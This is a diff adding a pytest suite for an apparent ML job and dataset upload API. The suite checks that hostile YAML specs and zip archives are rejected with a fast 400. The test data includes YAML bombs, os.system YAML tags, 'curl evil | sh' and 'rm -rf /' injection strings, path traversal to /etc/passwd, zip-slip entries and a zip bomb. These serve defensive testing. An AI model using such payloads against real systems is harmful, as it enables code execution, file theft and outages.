@@ -1,0 +1,229 @@
+"""A corpus of hostile specs and archives: each is a fast 400 naming the problem, and nothing
+is written outside the team's storage."""
+
+from __future__ import annotations
+
+import stat
+import time
+
+import pytest
+
+from apps.datasets.models import Dataset
+from apps.jobs.models import Job
+from tests.conftest import SEED_SPEC, api_client
+from tests.datasets.archives import DATA_YAML, make_zip, upload, valid_files, zip_bomb
+
+pytestmark = pytest.mark.django_db
+
+BILLION_LAUGHS = """\
+a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
+b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
+c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
+d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
+e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
+f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
+g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
+task_name: [*g,*g,*g,*g,*g,*g,*g,*g,*g]
+"""
+
+
+def seed_with(**lines: str) -> str:
+    text = SEED_SPEC
+    for key, value in lines.items():
+        prefix = f"{key}:"
+        kept = [line for line in text.splitlines() if not line.startswith(prefix)]
+        text = "\n".join(kept + [f"{key}: {value}"]) + "\n"
+    return text
+
+
+# (name, YAML body, the field the 400 must name, a word the message must contain)
+HOSTILE_SPECS = [
+    ("billion-laughs", BILLION_LAUGHS, "spec", "anchors"),
+    ("10MB", "task_name: x\n" + "#" * 10 * 1024**2, "spec", "limit"),
+    ("python-object", "task_name: !!python/object/apply:os.system ['touch /tmp/owned']\n", "spec", "YAML"),
+    ("python-name", "task_name: !!python/name:os.system\n", "spec", "YAML"),
+    ("deep-nesting", "task_name: " + "[" * 5000 + "]" * 5000 + "\n", "spec", "nesting"),
+    ("huge-int", "task_name: x\ntimeout: " + "9" * 6000 + "\n", "spec", "YAML"),
+    ("download-key", seed_with(download='"bash -c \'curl evil | sh\'"'), "download", "not a known field"),
+    ("data-root", seed_with(command='"yolo train data=/ model=yolov8n.yaml"'), "command.data", "no '/' prefix"),
+    ("data-dotdot", seed_with(command='"yolo train data=../../etc model=yolov8n.yaml"'), "command.data", ".."),
+    ("model-dotdot", seed_with(command='"yolo train data=demo model=../../etc/passwd.pt"'), "command.model", ".."),
+    ("shell-chain", seed_with(command='"yolo train data=demo model=yolov8n.yaml && curl evil"'), "command",
+     "key=value"),
+    ("shell-subst", seed_with(command='"yolo train data=$(id) model=yolov8n.yaml"'), "command.data",
+     "may only contain"),
+    ("shell-backtick", seed_with(command='"yolo train data=demo model=`id`.pt"'), "command.model",
+     "may only contain"),
+    ("shell-pipe-value", seed_with(command='"yolo train data=demo model=yolov8n.yaml optimizer=SGD|sh"'),
+     "command.optimizer", "must be one of"),
+    ("not-yolo", seed_with(command='"bash -c id"'), "command", "must start with 'yolo'"),
+    ("newline-in-name", seed_with(task_name='"a\\nrm -rf /"'), "task_name", "at most 200"),
+    ("semicolon-in-name", seed_with(task_name='"a; rm -rf /"'), "task_name", "at most 200"),
+    ("charge-other-team", seed_with(user="robotics"), "user", "not a member"),
+    ("state", seed_with(state="running"), "state", "cannot be set"),
+    ("node", seed_with(node="node-a"), "node", "cannot be set"),
+    ("device", seed_with(command='"yolo train data=demo model=yolov8n.yaml device=0,1,2,3"'), "command.device",
+     "cannot be set"),
+]
+
+
+@pytest.mark.parametrize(("body", "field", "word"), [c[1:] for c in HOSTILE_SPECS], ids=[c[0] for c in HOSTILE_SPECS])
+def test_a_hostile_spec_is_a_fast_400_naming_the_problem(body, field, word, bob, demo_registered):
+    client = api_client(bob)
+    started = time.monotonic()
+    response = client.post("/api/v1/jobs/", body, content_type="application/yaml")
+    elapsed = time.monotonic() - started
+    assert response.status_code == 400, response.content[:300]
+    errors = response.json()
+    assert field in errors, errors
+    message = errors[field] if isinstance(errors[field], str) else " ".join(errors[field])
+    assert word in message, message
+    assert elapsed < 2.0
+    assert not Job.objects.exists()
+
+
+def test_json_nested_past_the_recursion_limit_is_a_400(bob):
+    response = api_client(bob).post("/api/v1/jobs/", "[" * 50000 + "]" * 50000, content_type="application/json")
+    assert response.status_code == 400 and "spec" in response.json()
+
+
+# --- dataset YAMLs already in the team's storage, referenced by path -------------------------
+
+
+@pytest.fixture
+def team_storage(settings, tmp_path):
+    settings.DATASETS_DIR = tmp_path / "datasets"
+    root = settings.DATASETS_DIR / "vision"
+    (root / "d" / "images" / "train").mkdir(parents=True)
+    return root
+
+
+@pytest.mark.parametrize(("data_yaml", "word"), [
+    ('path: {root}/d\ntrain: images/train\nval: images/train\ndownload: "bash get.sh"\n', "download"),
+    ("path: /\ntrain: etc\nval: etc\n", "outside"),
+    ("path: {root}/d\ntrain: ../../../etc\nval: images/train\n", ".."),
+    ("path: {root}/d\ntrain: /etc\nval: images/train\n", "outside"),
+    ("path: .\ntrain: images/train\nval: images/train\n", "absolute"),
+    ("train: images/train\nval: ..\n", ".."),
+    ("path: {root}/d\ntrain: list.txt\nval: images/train\n", "not a file"),
+    ("a: &x 1\nb: *x\n", "anchors"),
+])
+def test_a_hostile_dataset_yaml_in_team_storage_is_refused_at_submit(data_yaml, word, bob, team_storage):
+    (team_storage / "d" / "list.txt").write_text("/etc/passwd\n")
+    (team_storage / "d" / "data.yaml").write_text(data_yaml.format(root=team_storage))
+    spec = {"task_name": "t", "command": "yolo train data=d/data.yaml model=yolov8n.yaml"}
+    response = api_client(bob).post("/api/v1/jobs/", spec, format="json")
+    assert response.status_code == 400
+    assert word in response.json()["command.data"][0]
+
+
+# --- archives ---------------------------------------------------------------------------------
+
+HOSTILE_ARCHIVES = [
+    ("zip-slip", lambda: make_zip(valid_files() | {"../../evil.txt": b"x"}), "../../evil.txt", "zip slip"),
+    ("zip-slip-nested", lambda: make_zip(valid_files() | {"images/../../evil.png": b"x"}), "images/../../evil.png",
+     "zip slip"),
+    ("absolute", lambda: make_zip(valid_files() | {"/tmp/evil.txt": b"x"}), "/tmp/evil.txt", "absolute"),
+    ("drive-letter", lambda: make_zip(valid_files() | {"C:/evil.txt": b"x"}), "C:/evil.txt", "absolute"),
+    ("backslash", lambda: make_zip(valid_files() | {"..\\..\\evil.txt": b"x"}), "..\\..\\evil.txt", "backslash"),
+    ("symlink", lambda: make_zip(valid_files(), symlinks={"images/train/evil.png": "/etc/passwd"}),
+     "images/train/evil.png", "symbolic link"),
+    ("fifo", lambda: make_zip(valid_files(), special={"images/train/evil.png": stat.S_IFIFO | 0o644}),
+     "images/train/evil.png", "device, pipe"),
+    ("pickle-cache", lambda: make_zip(valid_files() | {"labels/train.cache": b"\x80\x04evil"}),
+     "labels/train.cache", "unpickles"),
+    ("script", lambda: make_zip(valid_files() | {"get.sh": b"curl evil | sh"}), "get.sh", "unexpected file type"),
+    ("duplicate", lambda: make_zip(valid_files() | {"images/train/./0.png": b"x"}), "images/train/./0.png", "twice"),
+    ("download", lambda: make_zip(valid_files() | {"data.yaml": (DATA_YAML + 'download: "bash x.sh"\n').encode()}),
+     "data.yaml: download", "executes"),
+    ("path-root", lambda: make_zip(valid_files() | {"data.yaml": (DATA_YAML + "path: /\n").encode()}),
+     "data.yaml: path", "left out"),
+    ("train-escape", lambda: make_zip(valid_files() | {"data.yaml": b"train: ../../etc\nval: images/val\nnames: [a]\n"}),
+     "data.yaml: train", "'..'"),
+    ("train-list-file", lambda: make_zip(valid_files() | {
+        "data.yaml": b"train: labels/train/0.txt\nval: images/val\nnames: [a, b]\n"}), "data.yaml: train", "list"),
+    ("yaml-python", lambda: make_zip(valid_files() | {"data.yaml": b"names: !!python/object/apply:os.system [id]\n"}),
+     "data.yaml", "YAML"),
+    ("yaml-laughs", lambda: make_zip(valid_files() | {"data.yaml": BILLION_LAUGHS.encode()}), "data.yaml", "anchors"),
+    ("no-data-yaml", lambda: make_zip({k: v for k, v in valid_files().items() if k != "data.yaml"}), "data.yaml",
+     "missing"),
+]
+
+
+@pytest.fixture
+def storage(settings, tmp_path):
+    settings.DATASETS_DIR = tmp_path / "datasets"
+    return tmp_path
+
+
+def assert_nothing_written(tmp_path):
+    written = [p for p in tmp_path.rglob("*")]
+    assert all(p.is_dir() and p.name in ("datasets", "vision") for p in written), written
+
+
+@pytest.mark.parametrize(("build", "path", "word"), [c[1:] for c in HOSTILE_ARCHIVES],
+                         ids=[c[0] for c in HOSTILE_ARCHIVES])
+def test_a_hostile_archive_is_a_fast_400_naming_the_entry(build, path, word, bob, storage):
+    content = build()
+    started = time.monotonic()
+    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(content), "name": "x"}, format="multipart")
+    elapsed = time.monotonic() - started
+    assert response.status_code == 400, response.content[:500]
+    body = response.json()
+    assert body["file"], body
+    problems = {p["path"]: p["problem"] for p in body["problems"]}
+    assert path in problems, problems
+    assert word in problems[path], problems[path]
+    assert elapsed < 2.0
+    assert not Dataset.objects.exists()
+    assert_nothing_written(storage)
+
+
+@pytest.mark.parametrize(("content", "word"), [
+    (b"this is not a zip", "not a readable zip"),
+    (b"", "empty"),
+    (b"PK\x03\x04" + b"\0" * 100, "not a readable zip"),
+])
+def test_a_file_that_is_not_a_zip_is_refused(content, word, bob, storage):
+    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(content), "name": "x"}, format="multipart")
+    assert response.status_code == 400
+    assert word in " ".join(response.json()["file"])
+    assert_nothing_written(storage)
+
+
+def test_a_zip_bomb_is_refused_from_its_directory_alone(bob, storage):
+    content = zip_bomb()
+    assert len(content) < 1024**2
+    started = time.monotonic()
+    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(content), "name": "x"}, format="multipart")
+    assert response.status_code == 400
+    assert "zip bomb" in response.json()["file"][0]
+    assert time.monotonic() - started < 2.0
+    assert_nothing_written(storage)
+
+
+def test_an_archive_over_the_uncompressed_limit_is_refused(bob, storage, settings):
+    settings.DATASET_MAX_UNCOMPRESSED_BYTES = 100
+    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(make_zip(valid_files())), "name": "x"},
+                                    format="multipart")
+    assert response.status_code == 400 and "would unpack to" in response.json()["file"][0]
+    assert_nothing_written(storage)
+
+
+def test_a_member_that_lies_about_its_size_stops_extraction(tmp_path):
+    """Declared 10 bytes, inflates to more: extraction stops (zipfile also refuses past the declared size)."""
+    import io
+    import zipfile
+
+    from apps.datasets.archive import ArchiveLimits, ArchiveRejected, archive_extract, archive_inspect
+
+    content = bytearray(make_zip(valid_files() | {"images/train/big.png": b"A" * 5000}, compression=zipfile.ZIP_STORED))
+    plan = archive_inspect(io.BytesIO(bytes(content)), size=len(content), limits=ArchiveLimits())
+    # Shrink the declared size in the central directory after inspection.
+    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
+        info = archive.getinfo("images/train/big.png")
+    info_offset = bytes(content).rfind(b"images/train/big.png") - 46
+    content[info_offset + 24: info_offset + 28] = (10).to_bytes(4, "little")
+    with pytest.raises((ArchiveRejected, zipfile.BadZipFile)):
+        archive_extract(io.BytesIO(bytes(content)), plan, destination=tmp_path / "out")
+    assert info.file_size == 5000
